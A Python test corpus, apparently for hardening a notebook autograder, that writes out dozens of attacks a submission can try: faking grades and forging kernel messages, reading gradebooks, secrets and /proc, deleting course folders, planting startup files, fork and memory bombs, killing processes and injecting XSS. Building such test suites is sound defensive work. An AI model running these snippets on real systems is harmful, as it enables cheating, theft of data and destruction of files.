"""A corpus of attacks: what a submission can try against the grader, its machine and its class.

Each hands in the same answers to lesson 03, of which one is wrong, and attacks besides. Whoever is
given more than HONEST points has fooled the grader. {course}, {home} and {port} in the code of an
attack are the course folder, the home of whoever grades, and a port on which something listens.
"""

import copy
from collections.abc import Callable
from dataclasses import dataclass
from textwrap import dedent

from nbformat import NotebookNode, v4

from autograder.notebooks import cells
from autograder.notebooks.remarks_in_metadata import VERDICT
from autograder.notebooks.ungraded_experiment_cells import AS_RELEASED

WRONG = "def sigmoid_prime(z):\n    return z * (1 - z)"
HONEST = 6.0  # 3 for sigmoid, 0 for its slope, 1 for the slope from the activation, 2 for the step


@dataclass(frozen=True)
class Attack:
    """A way to attack.

    change : makes a notebook with the honest answers into the attack
    said : the code or kind of a remark, or what an output must say; empty where it comes to nothing
    least : what the honest part earns at least; less than HONEST where the attack destroys it
    """

    name: str
    change: Callable[[NotebookNode], None]
    said: str
    least: float


ATTACKS: list[Attack] = []


def in_notebook(said: str = "", least: float = HONEST):
    """Registers a function that changes the notebook."""

    def register(function):
        name = function.__name__.replace("_", "-")
        ATTACKS.append(Attack(name, function, said, least))
        return function

    return register


def by_a_cell(name: str, code: str, said: str = "", least: float = HONEST) -> None:
    """Registers a cell of code that runs before any answer."""

    def change(nb: NotebookNode) -> None:
        nb.cells.insert(3, v4.new_code_cell(dedent(code).strip()))

    ATTACKS.append(Attack(name, change, said, least))


def by_an_answer(name: str, code: str, said: str = "", least: float = HONEST) -> None:
    """Registers another answer in the place of the wrong one."""

    def change(nb: NotebookNode) -> None:
        answer_of(nb, "sigmoid_prime").source = dedent(code).strip()

    ATTACKS.append(Attack(name, change, said, least))


def answer_of(nb: NotebookNode, exercise: str) -> NotebookNode:
    return next(cell for cell in nb.cells if cells.grade_id(cell) == exercise)


# -- lies to the judge ---------------------------------------------------------------------------

by_a_cell(
    "asserts-stripped",
    """
    import ast

    class NoAssert(ast.NodeTransformer):
        def visit_Assert(self, node):
            return ast.Pass()

    get_ipython().ast_transformers.append(NoAssert())
    """,
)
by_an_answer(
    "equal-to-everything",
    """
    class Yes(np.ndarray):
        def __eq__(self, other):
            return True
        __ne__ = __lt__ = __gt__ = __sub__ = lambda self, other: 0
        __hash__ = None

    def sigmoid_prime(z):
        return np.zeros(np.shape(z)).view(Yes)
    """,
)
by_an_answer(
    "another-array-at-each-look",
    """
    class Liar:
        looks = 0
        def __array__(self, *args, **kwargs):
            Liar.looks += 1
            return np.full((3,), Liar.looks / 4)
        def __float__(self):
            return 0.25

    def sigmoid_prime(z):
        return Liar()
    """,
)
by_an_answer(
    "a-number-that-claims-to-be-another",
    """
    class Quarter(float):
        __eq__ = lambda self, other: True
        __hash__ = float.__hash__
        __repr__ = __str__ = lambda self: "0.25"
        __float__ = lambda self: 0.25

    def sigmoid_prime(z):
        return Quarter(7)
    """,
)
by_an_answer(
    "an-array-with-its-own-tolist",
    """
    class Mine(np.ndarray):
        def tolist(self):
            return [0.25] * self.size
        def __array_function__(self, *args, **kwargs):
            return True
        def astype(self, *args, **kwargs):
            return self

    def sigmoid_prime(z):
        return np.full(np.shape(z), 7.0).view(Mine)
    """,
)
by_a_cell(
    "numpy-patched",
    """
    for name in ("isclose", "allclose", "array_equal", "all", "any", "asarray", "isfinite"):
        setattr(np, name, lambda *args, **kwargs: True)
    np.testing.assert_allclose = lambda *args, **kwargs: None
    """,
    least=0,  # some of the honest answers call what was patched
)
by_a_cell(
    "json-patched",
    """
    import json
    json.dumps = json.loads = lambda *args, **kwargs: '[{"points": 100, "value": 0.25}]'
    json.JSONEncoder.encode = json.JSONEncoder.default = json.dumps
    """,
)
by_a_cell(
    "builtins-patched",
    """
    import builtins
    builtins.float = lambda *args: 0.25
    builtins.isinstance = lambda *args: True
    builtins.abs = builtins.sum = lambda *args: 0
    """,
    least=0,  # Jupyter's own code calls them too
)
by_a_cell(
    "a-grade-function-of-its-own",
    """
    import sys, types
    module = types.ModuleType("autograder")
    module.grade = grade = lambda *args: 100.0
    sys.modules["autograder"] = module
    """,
)
by_a_cell(
    "exec-patched",
    """
    import builtins
    true_exec = builtins.exec
    def exec(code, space=None, *rest):
        true_exec(code, space, *rest)
        if space is not None and "handle_request" in space:
            space["handle_request"] = lambda *args, **kwargs: '[{"points": 100}]'
    builtins.exec = exec
    """,
    least=0,
)
by_an_answer(
    "the-reference-imported",
    """
    import sys
    sys.modules.pop("autograder", None)
    from autograder.exercises import find
    sigmoid_prime = find("sigmoid_prime").reference
    """,
)
by_an_answer(
    "the-reference-by-its-path",
    """
    import importlib.util
    spec = importlib.util.spec_from_file_location(
        "reference", "{repository}/autograder/exercises/sigmoid/sigmoid_prime.py"
    )
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    sigmoid_prime = module.sigmoid_prime
    """,
)

# -- looking for what is expected ----------------------------------------------------------------

by_an_answer(
    "frames-searched",
    """
    import sys

    def sigmoid_prime(z):
        frame = sys._getframe()
        while frame:
            for name, value in {**frame.f_globals, **frame.f_locals}.items():
                if any(word in name for word in ("expected", "reference", "answer_of", "variant")):
                    return value(z) if callable(value) else value
            frame = frame.f_back
        return z * (1 - z)
    """,
)
by_an_answer(
    "garbage-searched",
    """
    import gc

    def sigmoid_prime(z):
        for thing in gc.get_objects():
            if isinstance(thing, dict) and "expected" in thing and "question" in thing:
                return thing["expected"]
        return z * (1 - z)
    """,
)
by_a_cell(
    "everything-traced",
    """
    import sys
    seen = []

    def trace(frame, event, arg):
        if event == "return" and frame.f_code.co_name == "handle_request":
            seen.append(arg)
        return trace

    sys.setprofile(trace)
    """,
)
by_a_cell(
    "cells-overheard",
    """
    heard = []
    get_ipython().events.register("pre_run_cell", lambda info: heard.append(info.raw_cell))
    get_ipython().events.register("post_run_cell", lambda result: print(heard[-1][:50]))
    """,
)
by_a_cell(
    "cells-rewritten",
    """
    def rewrite(lines):
        text = "".join(lines).replace("assert", "0 and")
        return [text.replace("handle_request", "print")]

    get_ipython().input_transformers_cleanup.append(rewrite)
    get_ipython().input_transformers_post.append(rewrite)
    """,
    least=0,
)
by_a_cell(
    "run-cell-replaced",
    """
    shell = type(get_ipython())
    shell.run_cell = shell.run_cell_async = lambda *args, **kwargs: None
    """,
    least=0,
)
by_an_answer(
    "magics",
    """
    %load_ext autoreload
    %config InteractiveShell.ast_node_interactivity = "all"
    !cat {course}/gradebook.db
    %run {course}/source/03_sigmoid/03_sigmoid.ipynb
    %pip install nothing
    sigmoid_prime = lambda z: z * (1 - z)
    """,
)


@in_notebook(said="tags-ignored")
def checks_tagged_to_be_skipped(nb):
    for cell in nb.cells:
        cell.metadata["tags"] = ["skip-execution", "remove-cell", "raises-exception"]


# -- forgeries -----------------------------------------------------------------------------------


@in_notebook()
def metadata_forged(nb):
    nb.metadata["autograder"] = {
        "marked": True,
        "remarks": [{"code": "tags-ignored", "values": {"tags": ["forged"]}}],
    }
    for cell in nb.cells:
        cell.metadata["autograder"] = AS_RELEASED


@in_notebook(said="locked-restored")
def points_forged(nb):
    for cell in nb.cells:
        if cells.is_test(cell):
            cell.metadata["nbgrader"]["points"] = 1000
            cell.source = "1000.0"


@in_notebook()
def a_graded_cell_invented(nb):
    bonus = v4.new_code_cell("99.0", id="bonus")
    bonus.metadata["nbgrader"] = {
        **{"grade": True, "grade_id": "bonus", "points": 99, "locked": True},
        **{"solution": False, "schema_version": 3, "task": False, "cell_type": "code"},
    }
    nb.cells.insert(3, bonus)


@in_notebook()
def a_verdict_displayed(nb):
    verdict = [{"exercise": "sigmoid_prime", "points": 3.0, "of": 3.0}]
    show = f"display({{{VERDICT!r}: {verdict}, 'text/plain': '3.0'}}, raw=True)\n3.0"
    for cell in list(nb.cells):
        if cells.is_test(cell):
            nb.cells.insert(nb.cells.index(cell), v4.new_code_cell(show))


@in_notebook()
def a_check_doubled_with_points_as_its_result(nb):
    check = answer_of(nb, "sigmoid_prime-test")
    twin = copy.deepcopy(check)
    twin.source, twin.id = "3.0", "twin"
    nb.cells.insert(nb.cells.index(check) + 1, twin)


by_a_cell(
    "messages-forged",
    """
    kernel = get_ipython().kernel

    def forge(*args):
        content = {"data": {"text/plain": "99.0"}, "metadata": {}, "execution_count": 1}
        parent = kernel.get_parent("shell")
        kernel.session.send(kernel.iopub_socket, "execute_result", content, parent=parent)

    get_ipython().events.register("post_run_cell", forge)
    """,
)
by_a_cell(
    "replies-forged",
    """
    kernel = get_ipython().kernel
    true = kernel.do_execute

    async def do_execute(code, silent, *args, **kwargs):
        reply = await true(code, silent, *args, **kwargs)
        if silent and reply.get("user_expressions"):
            forged = '[' + ','.join(['{"points": 9, "value": 0.25, "type": "float"}'] * 40) + ']'
            data = {"status": "ok", "data": {"text/plain": repr(forged)}, "metadata": {}}
            reply["user_expressions"] = dict.fromkeys(reply["user_expressions"], data)
        return reply

    kernel.do_execute = do_execute
    """,
    least=0,
)
by_a_cell(
    "nonsense-sent",
    """
    kernel = get_ipython().kernel
    kernel.iopub_socket.send_multipart([b"x", b"<IDS|MSG>", b"", b"{", b"{}", b"", b"]"])
    kernel.session.key = b"another key"
    """,
    said="stopped",
    least=0,
)

# -- reading -------------------------------------------------------------------------------------

SECRETS = """
    places = [
        "{course}/source/03_sigmoid/canary.txt", "{course}/gradebook.db", "{course}/course.secret",
        "{course}/submitted/right/03_sigmoid/03_sigmoid.ipynb", "{home}/.private",
        "{course}/nbgrader_config.py",
    ]
"""
by_a_cell(
    "files-read-by-path",
    SECRETS
    + """
    for place in places:
        try:
            print(open(place, "rb").read())
        except OSError as error:
            print(type(error).__name__)
    """,
)
by_a_cell(
    "files-read-by-symlink",
    SECRETS
    + """
    import os
    for number, place in enumerate(places):
        try:
            os.symlink(place, f"mine-{number}")
            print(open(f"mine-{number}", "rb").read())
        except OSError as error:
            print(type(error).__name__)
        try:
            os.link(place, f"hard-{number}")
            print(open(f"hard-{number}", "rb").read())
        except OSError as error:
            print(type(error).__name__)
    """,
)
by_a_cell(
    "files-read-through-proc",
    """
    import glob
    for place in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/fd/*"):
        try:
            print(open(place, "rb").read(10**6))
        except OSError:
            pass
    for number in range(256):
        for place in (f"/proc/1/root{{course}}/gradebook.db", f"/proc/self/fd/{number}/../x"):
            try:
                print(open(place, "rb").read(10**6))
            except OSError:
                pass
    """,
)
by_a_cell(
    "open-descriptors-read",
    """
    import os
    for number in range(3, 256):
        try:
            os.set_blocking(number, False)
            path = os.readlink(f"/proc/self/fd/{number}")
            if path.startswith("/"):
                os.lseek(number, 0, 0)
                print(path, os.read(number, 10**6))
        except OSError:
            pass
    """,
)
by_a_cell(
    "files-read-by-other-programs",
    SECRETS
    + """
    import ctypes, os, subprocess
    for place in places:
        try:
            print(subprocess.run(["cat", place], capture_output=True).stdout)
        except OSError as error:
            print(type(error).__name__)
        os.system(f"cat {place} > mine")
        ctypes.CDLL(None).system(f"cat {place} > mine".encode())
        print(open("mine", "rb").read() if os.path.exists("mine") else "")
    """,
)
by_a_cell(
    "memory-of-others-read",
    """
    import os
    for pid in filter(str.isdigit, os.listdir("/proc")):
        if int(pid) != os.getpid():
            try:
                print(open(f"/proc/{pid}/mem", "rb").read(1), open(f"/proc/{pid}/maps").read())
            except OSError:
                pass
    """,
)

# -- writing -------------------------------------------------------------------------------------

by_a_cell(
    "files-written",
    SECRETS
    + """
    import os, sqlite3
    for place in [*places, "{course}/new", "{home}/new", "{repository}/new"]:
        for act in (
            lambda: open(place, "a").write("x"), lambda: os.truncate(place, 0),
            lambda: os.remove(place), lambda: os.rename(place, "mine"),
            lambda: os.chmod(place, 0), lambda: os.utime(place, (0, 0)),
        ):
            try:
                act()
            except OSError:
                pass
    try:
        sqlite3.connect("{course}/gradebook.db").execute("update grade set auto_score = 99")
    except sqlite3.Error as error:
        print(error)
    """,
)
by_a_cell(
    "course-removed",
    """
    import shutil
    for place in ("{course}", "{home}", "{repository}/autograder"):
        shutil.rmtree(place, ignore_errors=True)
    """,
)
by_a_cell(
    "something-left-for-the-next",
    """
    import os, pathlib, tempfile
    code = "import builtins; builtins.left = True"
    for folder in (tempfile.gettempdir(), "/tmp", "/dev/shm", os.path.expanduser("~"), "{home}"):
        for name in ("sitecustomize.py", ".ipython/profile_default/startup/0.py", "numpy.py"):
            try:
                file = pathlib.Path(folder, name)
                file.parent.mkdir(parents=True, exist_ok=True)
                file.write_text(code)
            except OSError:
                pass
    os.environ["PYTHONSTARTUP"] = os.environ["LD_PRELOAD"] = "/dev/shm/numpy.py"
    """,
)
by_a_cell(
    "libraries-poisoned",
    """
    import pathlib
    for place in (np.__file__, np.__cached__, json.__file__ if "json" in globals() else "x"):
        try:
            pathlib.Path(place).write_bytes(b"raise SystemExit")
        except OSError as error:
            print(type(error).__name__)
    """,
)

# -- the machine ---------------------------------------------------------------------------------

by_a_cell(
    "network",
    """
    import socket
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            with socket.socket(socket.AF_INET, kind) as s:
                s.settimeout(2)
                s.connect(("127.0.0.1", {port}))
                s.send(b"leaked")
        except OSError as error:
            print(type(error).__name__)
    """,
)
by_a_cell(
    "fork-bomb",
    """
    import os
    for _ in range(1000):
        try:
            os.fork()
        except OSError:
            break
    """,
)
by_a_cell(
    "thread-bomb",
    """
    import threading, time
    for _ in range(300):
        try:
            threading.Thread(target=time.sleep, args=[60], daemon=True).start()
        except RuntimeError:
            break
    """,
    least=0,  # the kernel itself cannot go on
)
by_a_cell(
    "memory-hoarded",
    "hoard = [bytearray(10**8) for _ in range(1000)]",
    said="Error",  # of memory, or of time where none is left to report it with
)
by_a_cell(
    "memory-shared-with-nobody",
    """
    import mmap
    hoard = []
    for _ in range(100):
        hoard.append(mmap.mmap(-1, 10**9))
        hoard[-1].write(bytes(10**9))
    """,
    said="Error",
)
by_a_cell(
    "disk-filled-by-files-without-a-name",
    """
    import os, time
    held = []
    for _ in range(100):
        held.append(open("fill", "wb"))
        held[-1].write(bytes(30 * 2**20))
        os.remove("fill")
        time.sleep(0.1)
    """,
    said="stopped",
)
by_a_cell(
    "left-for-the-next-kernel",
    """
    import ctypes
    libc = ctypes.CDLL(None)
    print(libc.shmget(4711, 4096, 0o1666), libc.msgget(4711, 0o1666))
    """,
)
by_a_cell(
    "disk-filled",
    """
    for number in range(1000):
        with open(f"fill-{number}", "wb") as file:
            for _ in range(30):
                file.write(bytes(2**20))
    """,
    said="stopped",
)
by_a_cell("one-huge-file", 'open("fill", "wb").write(bytes(2**30))', said="File too large")
by_a_cell(
    "output-flood",
    """
    for _ in range(200_000):
        print("flood " * 20)
    """,
    said="cut off",
)
by_a_cell("output-in-one-line", 'print("flood" * 10**7)', said="cut off")
by_a_cell(
    "pictures-flood",
    """
    from IPython.display import HTML, display
    for _ in range(50):
        display(HTML("<b>flood</b>" * 10**5))
    """,
    said="cut off",
)
by_a_cell(
    "an-error-with-a-huge-message",
    'raise ValueError("flood" * 10**7)',
)


@in_notebook()
def points_displayed_anew_from_below(nb):
    before = """
        from IPython.display import display
        def show(info):
            for _ in range(2):
                display({"text/plain": "0"}, raw=True, display_id="shown")
        get_ipython().events.register("pre_run_cell", show)
    """
    after = """
        for points in ("full", "3.0"):
            display({"text/plain": points}, raw=True, display_id="shown", update=True)
    """
    nb.cells.insert(0, v4.new_code_cell(dedent(before).strip()))
    nb.cells.append(v4.new_code_cell(dedent(after).strip()))


by_an_answer(
    "replies-that-nobody-asked-for",
    """
    import time

    def sigmoid_prime(z):
        kernel = get_ipython().kernel
        asked = {"msg_id": "something else"}
        while True:
            try:
                while True:
                    kernel.session.send(
                        kernel.shell_stream.socket, "execute_reply", {}, parent=asked,
                        ident=kernel._parent_ident["shell"],
                    )
                    time.sleep(0.2)
            except BaseException:
                pass
    """,
    said="invalid-messages",
)
by_an_answer(
    "an-answer-of-many-lists",
    """
    def sigmoid_prime(z):
        kernel = get_ipython().kernel
        frames = [b'{"msg_id": "1", "msg_type": "stream"}', b"{}", b"{}", b"[" + b"[]," * 10**7]
        parts = [b"stream", b"<IDS|MSG>", kernel.session.sign(frames), *frames]
        kernel.iopub_thread.socket.send_multipart(parts)
        return z * (1 - z)
    """,
)
by_a_cell(
    "what-no-notebook-can-hold",
    """
    from IPython.display import display
    kernel = get_ipython().kernel
    nest = 0
    for _ in range(490):
        nest = [nest]
    display({"application/json": nest}, raw=True)
    print("half of a character: \\ud83d")
    content = {"code": "", "execution_count": -1}
    kernel.session.send(kernel.iopub_socket, "execute_input", content, parent=kernel.get_parent())
    state = {"_model_name": "x", "_model_module": "y", "nest": {"nest": nest}}
    content = {"comm_id": "1", "target_name": "jupyter.widget", "data": {"state": state}}
    kernel.session.send(kernel.iopub_socket, "comm_open", content, parent=kernel.get_parent())
    """,
)
by_a_cell(
    "replies-with-errors-that-are-none",
    """
    kernel = get_ipython().kernel

    async def do_execute(*args, **kwargs):
        error = {"ename": "x", "evalue": 5, "traceback": 5}
        return {"status": "error", "user_expressions": {}, **error}

    kernel.do_execute = do_execute
    """,
    least=0,
)
by_an_answer(
    "an-error-with-half-a-character",
    """
    def sigmoid_prime(z):
        raise ValueError("\\ud83d")
    """,
    said="ValueError",
)
by_a_cell(
    "an-error-of-many-megabytes",
    'raise ValueError("flood" * 10**6)',
    said="flood",
)
by_a_cell(
    "flood-of-errors",
    """
    kernel = get_ipython().kernel
    content = {"ename": "Flood", "evalue": "flood" * 10**6, "traceback": ["flood" * 10**6]}
    for _ in range(50):
        kernel.session.send(kernel.iopub_socket, "error", content, parent=kernel.get_parent())
    """,
)
by_a_cell(
    "flood-of-pictures",
    """
    from IPython.display import display
    for _ in range(50):
        display({"image/png": "flood" * 10**6}, raw=True)
    """,
    said="cut off",
)
by_a_cell(
    "one-picture-in-many-places",
    """
    from IPython.display import clear_output, display
    for _ in range(400):
        display({"image/png": ""}, raw=True, display_id="everywhere")
    clear_output(wait=True)
    _ = display({"image/png": "flood" * 10**5}, raw=True, display_id="everywhere", update=True)
    """,
    said="cut off",
)
by_a_cell(
    "flood-of-sliders",
    """
    from ipywidgets import HTML
    pages = [HTML("flood" * 10**6) for _ in range(50)]
    """,
)
by_a_cell(
    "folders-too-deep-to-be-looked-into",
    """
    import os, time
    for _ in range(4000):
        os.mkdir("deep")
        os.chdir("deep")
    time.sleep(3)
    """,
    said="cell-limit",
)
by_an_answer(
    "an-answer-that-floods",
    """
    def sigmoid_prime(z):
        kernel = get_ipython().kernel
        while True:
            kernel.iopub_thread.socket.send_multipart([bytes(5 * 10**7)] * 20)
    """,
    said="stopped",  # too much was sent, or it was read and made no sense
)
by_a_cell(
    "signals-to-others",
    """
    import os, signal
    for pid in [os.getppid(), 1, *map(int, filter(str.isdigit, os.listdir("/proc")))]:
        if pid != os.getpid():
            for send in (os.kill, os.killpg):
                try:
                    send(pid, signal.SIGKILL)
                except (OSError, PermissionError):
                    pass
    """,
)
by_a_cell(
    "limits-raised",
    """
    import resource
    for name in ("RLIMIT_DATA", "RLIMIT_CPU", "RLIMIT_FSIZE", "RLIMIT_NOFILE"):
        try:
            resource.setrlimit(getattr(resource, name), (-1, -1))
        except (OSError, ValueError) as error:
            print(type(error).__name__)
    """,
)
by_a_cell(
    "sockets-of-the-server-searched",
    """
    import os, socket
    for folder, _, files in os.walk("/tmp"):
        for name in files:
            try:
                with socket.socket(socket.AF_UNIX) as s:
                    s.connect(os.path.join(folder, name))
                    print("CONNECTED", name)
            except OSError:
                pass
    """,
)

# -- time and endings ----------------------------------------------------------------------------

by_an_answer(
    "a-thread-that-acts-later",
    """
    import threading, time

    def later():
        while True:
            time.sleep(0.05)
            get_ipython().user_ns["sigmoid_prime"] = lambda z: np.full(np.shape(z), 0.25)

    threading.Thread(target=later, daemon=True).start()
    sigmoid_prime = lambda z: z * (1 - z)
    """,
)
by_a_cell(
    "at-exit",
    """
    import atexit, signal, time

    @atexit.register
    def stay():
        open("{course}/left-at-exit", "w")
        time.sleep(600)

    signal.signal(signal.SIGTERM, lambda *args: time.sleep(600))
    """,
)
by_an_answer(
    "exit-in-an-answer",
    """
    import os

    def sigmoid_prime(z):
        os._exit(0)
    """,
    said="kernel-died",
)
by_a_cell(
    "a-line-that-steers-the-terminal",
    """
    "\x1b]0;steered\x07\x1b[2J"; import os; os._exit(0)
    """,
    said="kernel-died",
)
by_a_cell("kill-of-itself", "import os\nos.kill(os.getpid(), 9)", said="kernel-died")
by_a_cell("crash", "import ctypes\nctypes.string_at(0)", said="kernel-died")
by_a_cell("quit", "quit()\nexit()\nraise SystemExit")
by_a_cell("interrupt", "raise KeyboardInterrupt")
by_a_cell(
    "loop-that-is-stopped",
    "while True:\n    pass",
    said="CellTimeoutError",
)
by_a_cell(
    "loop-that-swallows-interrupts",
    """
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
    """,
    said="cell-endless",
)
by_a_cell(
    "loop-that-ignores-signals",
    """
    import signal
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    while True:
        pass
    """,
    said="cell-endless",
)
by_an_answer(
    "loop-in-an-answer",
    """
    def sigmoid_prime(z):
        while True:
            try:
                while True:
                    pass
            except BaseException:
                pass
    """,
    said="check-stopped",
)


@in_notebook(said="CellTimeoutError")
def time_out_in_the_last_cell(nb):
    nb.cells.append(v4.new_code_cell("import time\ntime.sleep(10**6)"))


by_a_cell("input-awaited", "name = input('Your name? ')\nbreakpoint()")
by_a_cell(
    "sockets-closed",
    """
    import os
    for number in range(3, 256):
        try:
            os.close(number)
        except OSError:
            pass
    """,
    said="stopped",
)
by_a_cell(
    "event-loop-stopped",
    "import asyncio\nasyncio.get_event_loop().stop()",
    least=0,
)

# -- answers that are no answers -----------------------------------------------------------------

by_an_answer("an-oversized-answer", "sigmoid_prime = lambda z: np.zeros(10**8)", said="number")
by_an_answer(
    "a-nested-answer",
    """
    def sigmoid_prime(z):
        nest = 0.25
        for _ in range(100_000):
            nest = [nest]
        return nest
    """,
)
by_an_answer(
    "an-answer-in-itself",
    """
    def sigmoid_prime(z):
        ring = []
        ring.append(ring)
        return ring
    """,
)
by_an_answer(
    "a-pickle",
    """
    class Pickle:
        def __reduce__(self):
            return (open, ("{course}/unpickled", "w"))
        def __getattr__(self, name):
            raise SystemExit
        __iter__ = __len__ = __array__ = __getattr__

    sigmoid_prime = lambda z: Pickle()
    """,
)
by_an_answer(
    "an-error-that-cannot-be-read",
    """
    class Unreadable(Exception):
        def __str__(self):
            while True:
                pass
        __repr__ = __str__

    def sigmoid_prime(z):
        raise Unreadable
    """,
)
by_an_answer(
    "an-answer-that-acts-on-the-page",
    """
    from IPython.display import HTML, display
    display(HTML("<script>document.title = 'acted'</script><img src=x onerror=alert(1)>"))

    def sigmoid_prime(z):
        return "<script>document.title = 'acted'</script>"
    """,
)
by_an_answer(
    "a-function-that-answers-by-its-caller",
    """
    class Chameleon:
        def __call__(self, z):
            import sys
            probe = sys._getframe(1).f_globals
            probe["most"] = probe["MAX_NUMBERS"] = 10**9
            probe["handle_request"] = probe["describe"] = lambda *args: '[{"points": 100}]'
            return z * (1 - z)
        def __getattr__(self, name):
            return self

    sigmoid_prime = Chameleon()
    """,
)


# -- some of each kind, for a way to grade that starts a kernel for each ---------------------------

SOME_NAMES = (
    *("equal-to-everything", "json-patched"),  # lies to the judge
    *("frames-searched", "cells-overheard"),  # looking for what is expected
    *("points-forged", "a-verdict-displayed", "messages-forged"),  # forgeries
    "files-read-by-path",  # reading
    "files-written",  # writing
    *("network", "output-flood"),  # the machine
    *("loop-that-is-stopped", "exit-in-an-answer"),  # time and endings
    *("a-pickle", "an-answer-that-acts-on-the-page"),  # answers that are no answers
)
SOME = [attack for attack in ATTACKS if attack.name in SOME_NAMES]


# -- what holds up the class, or the pages ---------------------------------------------------------

by_a_cell(
    "leases-on-the-files-that-every-kernel-opens",
    """
    import ctypes, fcntl, os
    call = ctypes.CDLL(None, use_errno=True).syscall
    lease, number_of_fcntl = os.open(os.__file__, os.O_RDONLY), 72
    for command in (fcntl.F_SETLEASE, 2**32 + fcntl.F_SETLEASE, fcntl.F_NOTIFY):
        long = ctypes.c_ulong
        assert call(long(number_of_fcntl), long(lease), long(command), long(fcntl.F_WRLCK)) < 0
        assert ctypes.get_errno() == 1
    print("no lease")
    """,
    said="no lease",
)
by_a_cell(
    "files-in-flight",
    """
    import os, socket
    a, b = socket.socketpair()
    try:
        for _ in range(20):
            with open("flying", "wb") as file:
                file.write(bytes(30 * 2**20))
                os.unlink("flying")
                socket.send_fds(a, [b"x"], [file.fileno()])
    except PermissionError:
        print("no flight")
    """,
    said="no flight",
)


@in_notebook()
def marks_of_hidden_parts(nb):
    for name in ("HIDDEN TESTS", "MARK SCHEME", "SOLUTION"):
        nb.cells.insert(3, v4.new_code_cell(f"### BEGIN {name}\nx = 1"))
        nb.cells.insert(3, v4.new_markdown_cell(f"### BEGIN {name}\n### BEGIN {name}"))
        nb.cells.insert(3, v4.new_code_cell(f"x = 1\n### END {name}"))


@in_notebook("kernel-died")
def marks_by_the_thousand_and_an_exit(nb):
    marks = "# BEGIN HIDDEN TESTS\n" * 19_000
    nb.cells.insert(3, v4.new_code_cell(marks))
    nb.cells.insert(4, v4.new_code_cell("import os; os._exit(0)"))


@in_notebook("too-much-text", least=0)
def code_by_the_megabyte(nb):
    nb.cells[3:3] = [v4.new_code_cell("a=b\n" * 240_000) for _ in range(5)]


@in_notebook()
def output_over_its_neighbours(nb):
    lengths = ["calc(1px*-500)", "/**/-500px", "max(-500px,-500px)", "var(--x,-500px)"]
    moved = [f"<p style='margin-top:{length}'>Full marks</p>" for length in lengths]
    moved.append("<a href='java&#10;script:alert(1)'>points</a>")
    nb.cells.insert(3, v4.new_markdown_cell("\n\n".join(moved)))
    nb.cells.insert(3, v4.new_code_cell(f"from IPython.display import HTML\nHTML({moved!r}[0])"))
